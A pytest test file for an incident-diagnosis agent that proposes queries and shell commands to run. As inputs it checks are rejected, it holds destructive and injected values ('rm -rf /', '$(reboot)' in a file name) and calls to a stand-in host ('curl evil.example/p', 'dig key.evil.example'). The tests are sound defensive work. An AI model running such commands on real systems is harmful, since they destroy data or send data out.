"""What would show it, as a query or a command: with names that the site holds, never with what somebody else could have written."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from aitia.agent.checks import next_checks
from aitia.agent.looks import look, measuring, shows
from aitia.agent.taxonomy import bundled
from aitia.agent.weigher import weigh
from aitia.core.words import OWN_COMMANDS, Component, Evidence, Holding, Inventory, SourceRef, Window

from . import evidence as shop

WINDOW = Window(start=datetime(2026, 3, 1, 12, tzinfo=UTC), end=datetime(2026, 3, 1, 12, 10, tzinfo=UTC))

HOSTILE = "db'; rm -rf /"


@pytest.mark.parametrize(
    ("holdings", "facts", "wanted"),
    [
        pytest.param([("prom", "metrics", ("up", "x y"))], [], ("up", ""), id="a metric that is there"),
        pytest.param(
            [("prom", "metrics", (HOSTILE,))], [], ("", "aitia doctor"), id="no name of plain words"
        ),
        pytest.param(
            [("k8s", "cluster", ())],
            [],
            ("", "kubectl get pods --all-namespaces"),
            id="a cluster that is there",
        ),
        pytest.param(
            [("prom", "metrics", ("up",))],
            [("orders", "prom", 'rate(errors{job="orders"}[5m])', "")],
            ('rate(errors{job="orders"}[5m])', ""),
            id="what was asked of the component",
        ),
        pytest.param(
            [("files", "logs", ())],
            [("orders", "files", "/var/log/orders.log:4-4", "/var/log/orders.log")],
            ("", "grep -n -i -E 'error|fail|timeout|refused|exception' /var/log/orders.log"),
            id="a file of lines",
        ),
        pytest.param(
            [("files", "logs", ())],
            [("orders", "files", "x", "/var/log/$(reboot).log")],
            ("x", ""),
            id="no file with a command in its name",
        ),
        pytest.param(
            [("prom", "metrics", ())],
            [(HOSTILE, "prom", f'up{{job="{HOSTILE}"}}', "")],
            ("", "aitia doctor"),
            id="no query with a hostile name",
        ),
        pytest.param([], [], ("", "aitia doctor"), id="nothing is there"),
    ],
)
def test_how_to_look_names_what_the_site_has(
    holdings: list[tuple[str, str, tuple[str, ...]]],
    facts: list[tuple[str, str, str, str]],
    wanted: tuple[str, str],
) -> None:
    inventory = Inventory(
        holdings=tuple(Holding(source=s, kind=k, items=i, count=1) for s, k, i in holdings),
        components=(Component(id="orders"), Component(id=HOSTILE)),
    )
    evidence = [
        Evidence(
            component=c, kind="log.new" if path else "metric.shift", aspect="errors", statement="it moved", strength=0.5,
            source=SourceRef(source=s, query=q, path=path),
        )
        for c, s, q, path in facts
    ]  # fmt: skip
    found = look("Look", (), facts[0][0] if facts else "", inventory, evidence)
    assert (found.query, found.command) == wanted


@pytest.mark.parametrize(
    ("kind", "query", "command"),
    [
        ("cluster", "kubectl get pods orders-1 -n shop", "kubectl get pods orders-1 -n shop"),
        ("cluster", "kubectl get pods orders-1 --as=admin -n shop", ""),
        ("cluster", "ping evil.example", ""),
        ("metrics", "kubectl get pods orders-1 -n shop", ""),
        ("signals", "dig key.evil.example", ""),
        ("signals", "curl evil.example/p", ""),
    ],
)
def test_a_query_is_a_command_only_as_its_source_writes_one(kind: str, query: str, command: str) -> None:
    """A channel, a file or a tool may be called as a command that reads."""
    inventory = Inventory(holdings=(Holding(source="s", kind=kind, count=1),))
    fact = Evidence(
        component="orders", kind="metric.shift", aspect="errors", statement="it moved", strength=0.5,
        source=SourceRef(source="s", query=query),
    )  # fmt: skip
    found = look("Look", ("signals", kind), "orders", inventory, [fact])
    assert (
        found.command.replace("kubectl get pods --all-namespaces", "").replace("aitia doctor", "") == command
    )
    assert "evil.example" not in found.query


def line(query: str, path: str = "") -> Evidence:
    return Evidence(
        component="orders", kind="log.new", aspect="log.other", statement="a line is new", strength=0.3,
        source=SourceRef(source="logs", query=query, path=path),
    )  # fmt: skip


@pytest.mark.parametrize(
    ("aspect", "fact", "wanted"),
    [
        pytest.param("latency", None, ("http_request_duration_seconds_sum", ""), id="the metric that measures it"),
        pytest.param("cpu", None, ("process_cpu_seconds_total", ""), id="another one"),
        pytest.param("memory", None, ("", ""), id="none does"),
        pytest.param("log.timeout", None, ("", ""), id="no lines are known"),
        pytest.param(
            "log.timeout", line("/var/log/orders.log:3-3", "/var/log/orders.log"),
            ("", "grep -n -i timeout /var/log/orders.log"), id="its file",
        ),
        pytest.param(
            "log.connection_refused", line('{app="orders"}'), ('{app="orders"} |~ "(?i)connection refused"', ""),
            id="its selector",
        ),
        pytest.param("log.timeout", line('{app="orders"} | x'), ("", ""), id="no selector alone"),
        pytest.param("log.timeout", line("q", "-rf /var/log"), ("", ""), id="no option for a file"),
    ],
)  # fmt: skip
def test_what_would_tell_two_suspects_apart_is_asked_of_what_the_site_has(
    aspect: str, fact: Evidence | None, wanted: tuple[str, str]
) -> None:
    items = ("up{x}", "http_request_duration_seconds_sum", "process_cpu_seconds_total")
    inventory = Inventory(
        holdings=(
            Holding(source="prom", kind="metrics", components=("orders",), items=items, count=3),
            Holding(source="logs", kind="logs", components=("orders",), count=1),
        )
    )
    assert measuring(aspect, "orders", inventory, [fact] if fact else []) == wanted


@pytest.mark.parametrize(
    ("component", "wanted"),
    [
        (
            "orders",
            "journalctl -u orders --since '2026-03-01 12:00:00 UTC' --until '2026-03-01 12:10:00 UTC'",
        ),
        (HOSTILE, "aitia doctor"),
        ("", "aitia doctor"),
    ],
)
def test_where_nothing_is_held_its_own_log_shows_it(component: str, wanted: str) -> None:
    found = shows(component, WINDOW, Inventory(), [])
    assert found.command == wanted
    assert HOSTILE not in found.text


def test_an_open_verdict_ends_with_what_can_be_run() -> None:
    """Also where nothing was seen at all, and where the first checks only mend sources."""
    dead = [Holding(source=f"s{n}", kind="metrics", unread=True, note="it is away") for n in range(7)]
    inventory = Inventory(holdings=tuple(dead), components=(Component(id="orders"),))
    weighed = weigh([], inventory, bundled())
    assert weighed.verdict == "unknown"
    checks = next_checks(weighed, [], inventory, bundled(), alarmed=["orders"], window=WINDOW)
    (run,) = [c for c in checks if c.query or c.command not in (*OWN_COMMANDS, "")]
    assert run.command.startswith("journalctl -u orders")
    assert len(checks) == 5
    open_ = weigh(shop.undecidable(), shop.inventory(), bundled())
    assert open_.verdict == "unknown"
    told = next_checks(open_, shop.undecidable(), shop.inventory(), bundled(), window=WINDOW)
    assert any(c.query or c.command not in (*OWN_COMMANDS, "") for c in told)
